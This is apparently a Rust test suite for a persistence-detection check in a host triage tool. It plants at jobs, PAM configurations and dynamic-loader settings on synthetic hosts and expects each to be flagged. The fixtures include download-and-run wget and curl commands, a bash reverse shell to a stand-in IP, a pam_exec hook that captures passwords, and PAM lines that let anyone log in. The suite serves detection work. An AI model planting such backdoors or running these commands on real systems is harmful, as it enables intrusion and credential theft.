//! at jobs, PAM backdoors and the dynamic loader's configuration, planted one per test
//! into synthetic hosts; each planted problem has a clean twin that must stay quiet.

mod common;

use common::*;
use rampart_core::{Report, Severity};
use rampart_triage::checks::persistence::Persistence;

fn run(h: &FakeHost) -> Report {
    h.run(&[Box::new(Persistence)])
}

// ---------- at jobs ----------

/// A job file as Debian's at 3.2 writes it, running `command`.
fn debian_at_job(uid: u32, command: &str) -> String {
    format!(
        "#!/bin/sh\n# atrun uid={uid} gid={uid}\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\n\
         HOME=/root; export HOME\ncd /root || {{\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}}\n\
         ${{SHELL:-/bin/sh}} << 'marcinDELIMITER2b3c4d5e'\n{command}\n\nmarcinDELIMITER2b3c4d5e\n"
    )
}

/// Job 0x101 of queue a, due at minute 0x01c0a9b4 since the epoch.
const JOB: &str = "/var/spool/cron/atjobs/a0010101c0a9b4";

#[test]
fn at_job_that_downloads_and_runs_is_critical() {
    let h = FakeHost::new();
    h.write_mode(
        JOB,
        debian_at_job(0, "wget -q -O- http://203.0.113.4/p.sh | sh"),
        0o700,
    );
    h.write("/var/spool/cron/atjobs/.SEQ", "101\n");
    let r = run(&h);
    let f = expect_id(&r, "persistence.at-suspicious");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, format!("{JOB}:12"));
    assert!(f.title.contains("at job of root"), "{}", f.title);
    assert!(f.title.contains("downloads with wget"), "{}", f.title);
    expect_no_id(&r, "persistence.at-job");
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
}

#[test]
fn benign_at_job_is_listed_with_owner_and_time() {
    let h = FakeHost::new();
    h.write_mode(
        JOB,
        debian_at_job(1000, "/usr/bin/systemctl restart nginx"),
        0o700,
    );
    let r = run(&h);
    expect_no_id(&r, "persistence.at-suspicious");
    let f = expect_id(&r, "persistence.at-job");
    assert_eq!(f.severity, Severity::Low);
    assert!(f.title.contains("at job of alice"), "{}", f.title);
    let when = rampart_core::time::utc_minute(0x01c0_a9b4 * 60);
    assert!(f.title.contains(&when), "{} lacks {when}", f.title);
    assert_eq!(
        f.evidence.len(),
        1,
        "only the submitted command: {:#?}",
        f.evidence
    );
    assert_eq!(f.evidence[0].detail, "/usr/bin/systemctl restart nginx");
}

#[test]
fn reverse_shell_in_the_rhel_at_spool() {
    let h = FakeHost::new();
    h.write(
        "/var/spool/at/a0000201c0a9b4",
        "#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\nLANG=C; export LANG\n\
         cd /var/www || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n\
         bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
    );
    h.mkdir("/var/spool/at/spool");
    let r = run(&h);
    let f = expect_id(&r, "persistence.at-suspicious");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/var/spool/at/a0000201c0a9b4:10");
    assert!(f.title.contains("www-data"), "{}", f.title);
}

#[test]
fn empty_at_spool_has_nothing_to_report() {
    let h = FakeHost::new();
    h.write("/var/spool/cron/atjobs/.SEQ", "0\n");
    h.mkdir("/var/spool/cron/atspool");
    let r = run(&h);
    expect_no_id(&r, "persistence.at-job");
    expect_no_id(&r, "persistence.at-suspicious");
}

// ---------- PAM ----------

const COMMON_AUTH: &str = "# here are the per-package modules (the \"Primary\" block)\n\
auth\t[success=1 default=ignore]\tpam_unix.so nullok\n\
auth\trequisite\t\t\tpam_deny.so\n\
auth\trequired\t\t\tpam_permit.so\n";

const SSHD: &str = "# PAM configuration for the Secure Shell service\n@include common-auth\n\
account    required     pam_nologin.so\n@include common-account\nsession    required     pam_limits.so\n";

const SU: &str = "auth       sufficient pam_rootok.so\n@include common-auth\n@include common-account\n";

/// Module files in /usr/lib/x86_64-linux-gnu/security, and a libpam-modules package
/// whose file list names `listed` under `lib` (`/lib` or `/usr/lib`).
fn libpam_modules(h: &FakeHost, on_disk: &[&str], lib: &str, listed: &[&str]) {
    for m in on_disk {
        h.write(&format!("/usr/lib/x86_64-linux-gnu/security/{m}"), "\x7fELF");
    }
    h.write(
        "/var/lib/dpkg/status",
        "Package: libpam-modules\nStatus: install ok installed\nVersion: 1.5.2\nArchitecture: amd64\n",
    );
    let list: String = listed
        .iter()
        .map(|m| format!("{lib}/x86_64-linux-gnu/security/{m}\n"))
        .collect();
    h.write(
        "/var/lib/dpkg/info/libpam-modules:amd64.list",
        format!("/.\n{list}"),
    );
}

/// Debian's PAM layout, with a dpkg database that owns the modules.
fn pam_host() -> FakeHost {
    let h = FakeHost::new();
    h.write("/etc/pam.d/common-auth", COMMON_AUTH);
    h.write("/etc/pam.d/common-account", "account required pam_unix.so\n");
    h.write("/etc/pam.d/sshd", SSHD);
    h.write("/etc/pam.d/login", SSHD);
    h.write("/etc/pam.d/su", SU);
    h.write(
        "/etc/pam.d/sudo",
        "@include common-auth\n@include common-account\n",
    );
    let modules = [
        "pam_unix.so",
        "pam_deny.so",
        "pam_permit.so",
        "pam_rootok.so",
        "pam_nologin.so",
        "pam_limits.so",
    ];
    libpam_modules(&h, &modules, "/usr/lib", &modules);
    h
}

#[test]
fn stock_debian_pam_is_quiet() {
    let h = pam_host();
    let r = run(&h);
    for id in [
        "persistence.pam-permit",
        "persistence.pam-exec-auth",
        "persistence.pam-exec",
        "persistence.pam-module-unowned",
    ] {
        expect_no_id(&r, id);
    }
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
}

#[test]
fn sufficient_pam_permit_in_sshd_lets_anyone_in() {
    let h = pam_host();
    h.write(
        "/etc/pam.d/sshd",
        format!("auth sufficient pam_permit.so\n{SSHD}"),
    );
    let r = run(&h);
    let found = with_id(&r, "persistence.pam-permit");
    assert_eq!(found.len(), 1, "only sshd: {found:#?}");
    let f = found[0];
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("sshd"), "{}", f.title);
    assert_eq!(f.evidence[0].location, "/etc/pam.d/sshd:1");
}

#[test]
fn pam_permit_in_place_of_pam_deny_opens_every_login_service() {
    let h = pam_host();
    h.write(
        "/etc/pam.d/common-auth",
        COMMON_AUTH.replace("pam_deny.so", "pam_permit.so"),
    );
    let r = run(&h);
    let found = with_id(&r, "persistence.pam-permit");
    let mut services: Vec<&str> = found
        .iter()
        .map(|f| f.title.split(" to ").nth(1).unwrap().split(' ').next().unwrap())
        .collect();
    services.sort();
    assert_eq!(services, vec!["login", "sshd", "su", "sudo"]);
    assert!(found
        .iter()
        .all(|f| f.evidence[0].location == "/etc/pam.d/common-auth:3"));
}

#[test]
fn pam_exec_with_expose_authtok_is_critical() {
    let h = pam_host();
    h.write_mode(
        "/usr/local/bin/audit-login",
        "#!/bin/sh\ncat >> /var/tmp/.l\n",
        0o755,
    );
    h.write(
        "/etc/pam.d/common-auth",
        format!("auth optional pam_exec.so quiet expose_authtok /usr/local/bin/audit-login\n{COMMON_AUTH}"),
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.pam-exec");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("/usr/local/bin/audit-login"), "{}", f.title);
    assert!(f.title.contains("expose_authtok"), "{}", f.title);
    assert!(f.title.contains("no package installed"), "{}", f.title);
    assert_eq!(f.evidence[0].location, "/etc/pam.d/common-auth:1");
    // pam_exec.so has no file on this host: PAM would fail that line, nothing to own.
    expect_no_id(&r, "persistence.pam-module-unowned");
    expect_no_id(&r, "persistence.pam-permit");
}

#[test]
fn sufficient_pam_exec_in_su_lets_its_program_decide() {
    let h = pam_host();
    h.write_mode("/usr/local/sbin/gate", "#!/bin/sh\nexit 0\n", 0o755);
    h.write(
        "/etc/pam.d/su",
        format!("auth sufficient pam_exec.so quiet /usr/local/sbin/gate\n{SU}"),
    );
    let r = run(&h);
    let found = with_id(&r, "persistence.pam-exec-auth");
    assert_eq!(found.len(), 1, "only su: {found:#?}");
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(found[0].title.contains(" su "), "{}", found[0].title);
    assert_eq!(found[0].evidence[0].location, "/etc/pam.d/su:1");
    expect_no_id(&r, "persistence.pam-permit");
    // The line itself is reported as a pam_exec line too.
    expect_id(&r, "persistence.pam-exec");
}

#[test]
fn pam_exec_running_a_download_is_flagged_by_its_command() {
    let h = pam_host();
    h.write(
        "/etc/pam.d/sshd",
        format!("{SSHD}session optional pam_exec.so /bin/sh -c \"curl -s http://203.0.113.5/x | sh\"\n"),
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.pam-exec");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("downloads with curl"), "{}", f.title);
    assert_eq!(f.evidence[0].location, "/etc/pam.d/sshd:6");
}

#[test]
fn module_no_package_installed_is_high() {
    let h = pam_host();
    h.write("/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", "\x7fELF");
    h.write(
        "/etc/pam.d/common-auth",
        format!("auth sufficient pam_unix2.so\n{COMMON_AUTH}"),
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.pam-module-unowned");
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.title
            .contains("/usr/lib/x86_64-linux-gnu/security/pam_unix2.so"),
        "{}",
        f.title
    );
    assert_eq!(f.evidence[0].location, "/etc/pam.d/common-auth:1");
    // The packaged modules stay quiet.
    assert_eq!(with_id(&r, "persistence.pam-module-unowned").len(), 1);
}

#[test]
fn merged_usr_modules_listed_under_lib_are_owned() {
    // Debian 12: /lib is a link to usr/lib and dpkg lists the modules under /lib.
    let h = FakeHost::new();
    h.symlink("usr/lib", "/lib");
    h.write("/etc/pam.d/common-auth", COMMON_AUTH);
    h.write("/etc/pam.d/sshd", SSHD);
    libpam_modules(
        &h,
        &[
            "pam_unix.so",
            "pam_deny.so",
            "pam_permit.so",
            "pam_nologin.so",
            "pam_limits.so",
        ],
        "/lib",
        &["pam_unix.so", "pam_deny.so", "pam_permit.so", "pam_nologin.so"],
    );
    let r = run(&h);
    // pam_limits.so is in no list: the one stranger.
    let found = with_id(&r, "persistence.pam-module-unowned");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].title.contains("pam_limits.so"), "{}", found[0].title);
}

#[test]
fn module_loaded_from_a_temp_dir_is_critical() {
    let h = pam_host();
    h.write("/dev/shm/.pam_x.so", "\x7fELF");
    h.write(
        "/etc/pam.d/su",
        format!("auth sufficient /dev/shm/.pam_x.so\n{SU}"),
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.pam-module-unowned");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/etc/pam.d/su:1");
}

#[test]
fn garbage_in_a_pam_file_is_an_error_naming_the_line() {
    let h = pam_host();
    h.write("/etc/pam.d/sshd", format!("{SSHD}\u{1}\u{2}garbage\n"));
    let r = run(&h);
    assert!(
        r.errors.iter().any(|e| e.subject == "/etc/pam.d/sshd:6"),
        "{:#?}",
        r.errors
    );
    expect_no_id(&r, "persistence.pam-permit");
}

// ---------- the dynamic loader ----------

#[test]
fn ld_so_conf_naming_a_temp_dir_is_critical() {
    let h = FakeHost::new();
    h.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n");
    h.write("/etc/ld.so.conf.d/libc.conf", "# libc default\n/usr/local/lib\n");
    h.write(
        "/etc/ld.so.conf.d/zz-cache.conf",
        "/usr/lib/x86_64-linux-gnu\n/var/tmp/.cache/lib\n",
    );
    h.mkdir("/usr/local/lib");
    let r = run(&h);
    let found = with_id(&r, "persistence.ld-so-conf");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::Critical);
    assert_eq!(found[0].evidence[0].location, "/etc/ld.so.conf.d/zz-cache.conf:2");
}

#[test]
fn ld_so_conf_naming_a_world_writable_dir_is_critical() {
    let h = FakeHost::new();
    h.write("/etc/ld.so.conf", "/opt/vendor/lib\n");
    h.mkdir("/opt/vendor/lib");
    std::fs::set_permissions(
        h.path("/opt/vendor/lib"),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let r = run(&h);
    let f = expect_id(&r, "persistence.ld-so-conf");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("world-writable"), "{}", f.title);
    assert_eq!(f.evidence[0].location, "/etc/ld.so.conf:1");
}

#[test]
fn stock_ld_so_conf_is_quiet() {
    let h = FakeHost::new();
    h.write("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n\n");
    h.write("/etc/ld.so.conf.d/libc.conf", "/usr/local/lib\n");
    h.write(
        "/etc/ld.so.conf.d/x86_64-linux-gnu.conf",
        "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
    );
    h.mkdir("/usr/local/lib");
    h.mkdir("/usr/lib/x86_64-linux-gnu");
    let r = run(&h);
    expect_no_id(&r, "persistence.ld-so-conf");
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
}

#[test]
fn ld_preload_in_etc_environment_is_critical() {
    let h = FakeHost::new();
    h.write(
        "/etc/environment",
        "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nLD_PRELOAD=/usr/lib/libsystem.so\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.environment-preload");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/etc/environment:2");
    assert!(f.title.contains("/usr/lib/libsystem.so"), "{}", f.title);
    // Not reported a second time as a shell start-up line: pam_env reads it, no shell runs it.
    expect_no_id(&r, "persistence.shell-rc");
}

#[test]
fn plain_etc_environment_is_quiet() {
    let h = FakeHost::new();
    h.write(
        "/etc/environment",
        "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nLANG=C.UTF-8\n",
    );
    h.write(
        "/etc/security/pam_env.conf",
        "# nothing\nDISPLAY DEFAULT=${REMOTEHOST}:0.0 OVERRIDE=${DISPLAY}\n",
    );
    let r = run(&h);
    for id in [
        "persistence.environment-preload",
        "persistence.environment-path",
        "persistence.environment-library-path",
    ] {
        expect_no_id(&r, id);
    }
}

#[test]
fn ld_preload_in_pam_env_conf_and_a_temp_dir_in_path() {
    let h = FakeHost::new();
    h.write(
        "/etc/security/pam_env.conf",
        "LD_PRELOAD DEFAULT=/dev/shm/.l.so\n",
    );
    h.write("/etc/environment", "PATH=/dev/shm/.b:/usr/bin:/bin\n");
    let r = run(&h);
    let f = expect_id(&r, "persistence.environment-preload");
    assert_eq!(f.evidence[0].location, "/etc/security/pam_env.conf:1");
    let p = expect_id(&r, "persistence.environment-path");
    assert_eq!(p.severity, Severity::Critical);
    assert_eq!(p.evidence[0].location, "/etc/environment:1");
}
